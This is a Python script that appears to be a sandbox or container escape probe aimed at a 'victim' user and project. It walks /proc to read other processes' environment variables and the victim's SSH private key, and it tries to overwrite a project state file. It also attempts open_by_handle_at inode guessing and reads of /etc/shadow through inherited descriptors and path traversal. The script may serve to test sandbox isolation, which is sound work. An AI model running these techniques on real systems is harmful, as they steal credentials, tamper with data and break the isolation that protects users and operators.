import ctypes, json, os, signal, socket, stat, struct, sys, time
V = json.load(open("victim.json"))
def esc(*a): print("ESCAPED", *a, flush=True)
def t(f):
    try: return f()
    except BaseException as e: print("  no:", repr(e)[:100], flush=True)
L = ctypes.CDLL(None, use_errno=True)

import glob
for place in glob.glob("/proc/[0-9]*"):
    pid = place.rpartition("/")[2]
    for way in ("root", "cwd"):
        for path in (V["home"] + "/.ssh/id_rsa", V["project"] + "/.tumbler/state.json"):
            if t(lambda: print(open(f"{place}/{way}{path}").read()) or True): pass
        t(lambda: open(f"{place}/{way}{V['project']}/.tumbler/state.json", "w").write("x"))
    for number in t(lambda: os.listdir(f"{place}/fd")) or []:
        if pid != str(os.getpid()):
            t(lambda: open(f"{place}/fd/{number}", "rb", buffering=0) and None)
    if pid != str(os.getpid()):
        t(lambda: print(open(f"{place}/environ").read()))
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
mount = ctypes.c_int()
for path in ("/", ".", "/usr", "/tmp"):
    if L.syscall(303, -100, path.encode(), handle, ctypes.byref(mount), 0) == 0:
        for top in (path, "/", "/proc"):
            fd = t(lambda: os.open(top, os.O_RDONLY))
            for inode in (2, 128, 256):
                made = ctypes.create_string_buffer(struct.pack("IiQI", 8, 1, inode, 0))
                if fd is not None and L.syscall(304, fd, made, os.O_RDONLY) >= 0: esc("open_by_handle_at", top, inode)
for number in range(3, 64):
    for name in ("etc/shadow", V["home"].lstrip("/") + "/.ssh/id_rsa", "../../../../../.." + V["home"] + "/.ssh/id_rsa"):
        t(lambda: print(os.read(os.open(name, os.O_RDONLY, dir_fd=number), 200)))
